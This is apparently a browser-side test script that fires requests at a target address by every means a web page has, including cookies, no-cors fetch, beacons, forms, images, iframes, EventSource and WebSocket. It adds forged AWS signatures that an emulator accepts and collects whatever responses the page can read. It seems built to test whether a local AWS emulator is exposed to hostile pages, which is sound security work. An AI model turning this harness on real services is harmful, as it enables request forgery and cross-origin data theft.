// What a script of a web page may try: each request in every way in which a browser sends one. It runs in the browser.

/** Milliseconds after which a way counts as having come to nothing. */
const LIMIT = 20_000;

const GET_ONLY = ["image", "script", "frame", "events", "socket"];

/** A signature that is none: the emulator takes any, so a page needs no secret. */
const signature = (service) =>
  `AWS4-HMAC-SHA256 Credential=x/20260101/us-east-1/${service}/aws4_request, SignedHeaders=host, Signature=0`;

/** The same in the address, for what a page sends without headers. */
const inAddress = (service) =>
  `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=x%2F20260101%2Fus-east-1%2F${service}%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-SignedHeaders=host&X-Amz-Signature=0`;

const signed = (url, { service }) => `${url}${url.includes("?") ? "&" : "?"}${inAddress(service)}`;

const WAYS = {
  preflighted: async (url, { method, headers, body, service }) => {
    const all = { ...headers, authorization: signature(service) };
    return (await fetch(url, { method, headers: all, body })).text();
  },
  unsigned: async (url, { method, headers, body }) => (await fetch(url, { method, headers, body })).text(),
  simple: async (url, { method, body }) =>
    (await fetch(url, { method: method === "GET" ? "GET" : "POST", body })).text(),
  opaque: async (url, request) => {
    const { method, body } = request;
    const init = { mode: "no-cors", method: method === "GET" ? "GET" : "POST", body };
    return (await fetch(signed(url, request), init)).text();
  },
  cookies: async (url, { method, body }) =>
    (await fetch(url, { method: method === "GET" ? "GET" : "POST", body, credentials: "include" })).text(),
  beacon: async (url, { body }) => {
    navigator.sendBeacon(url, body);
    return "";
  },
  form: (url, request) => submitForm(signed(url, request), request, "application/x-www-form-urlencoded"),
  plainForm: (url, request) => submitForm(url, request, "text/plain"),
  multipart: (url, request) => submitForm(url, request, "multipart/form-data"),
  image: (url, request) => loaded(Object.assign(new Image(), { src: signed(url, request) })),
  script: (url, request) => loaded(element("script", { src: signed(url, request) })),
  frame: (url, request) => framed(element("iframe", { src: signed(url, request) })),
  events: (url, request) =>
    new Promise((resolve) => {
      const source = new EventSource(signed(url, request));
      const end = (text) => () => {
        source.close();
        resolve(text);
      };
      source.onopen = end("opened");
      source.onerror = end("");
    }),
  socket: (url, request) =>
    new Promise((resolve) => {
      const socket = new WebSocket(signed(url, request).replace(/^http/, "ws"));
      socket.onopen = () => resolve("opened");
      socket.onerror = () => resolve("");
    }),
};

function element(name, properties) {
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}

function loaded(made) {
  return new Promise((resolve) => {
    made.onload = () => resolve("loaded");
    made.onerror = () => resolve("");
  });
}

/** The text of a frame, where the browser lets this page see it. */
function framed(frame) {
  return new Promise((resolve) => {
    frame.onload = () => {
      try {
        const { href } = frame.contentWindow.location;
        if (href !== "about:blank" && !href.startsWith("chrome-error:"))
          resolve(frame.contentDocument.body.innerText);
      } catch {
        resolve("");
      }
    };
  });
}

let frames = 0;

function submitForm(url, { body = "" }, enctype) {
  const name = `frame${frames++}`;
  const frame = element("iframe", { name });
  const form = element("form", { action: url, method: "POST", enctype, target: name });
  for (const [key, value] of new URLSearchParams(body)) {
    form.append(Object.assign(document.createElement("input"), { name: key, value }));
  }
  const text = framed(frame);
  form.submit();
  return text;
}

const within = (work) =>
  Promise.race([work, new Promise((resolve) => setTimeout(() => resolve(""), LIMIT))]).catch(() => "");

/** Tries everything against an address. @returns what this page could read, each with the way and the request. */
globalThis.attack = async (base, requests) => {
  const read = [];
  for (const request of requests) {
    const ways = Object.entries(WAYS).filter(
      ([name]) => request.method === "GET" || !GET_ONLY.includes(name),
    );
    const texts = ways.map(async ([name, way]) => {
      const text = await within(Promise.resolve().then(() => way(base + request.path, request)));
      if (text) read.push(`${name} ${request.method} ${request.path}: ${text}`);
    });
    await Promise.all(texts);
  }
  return read;
};
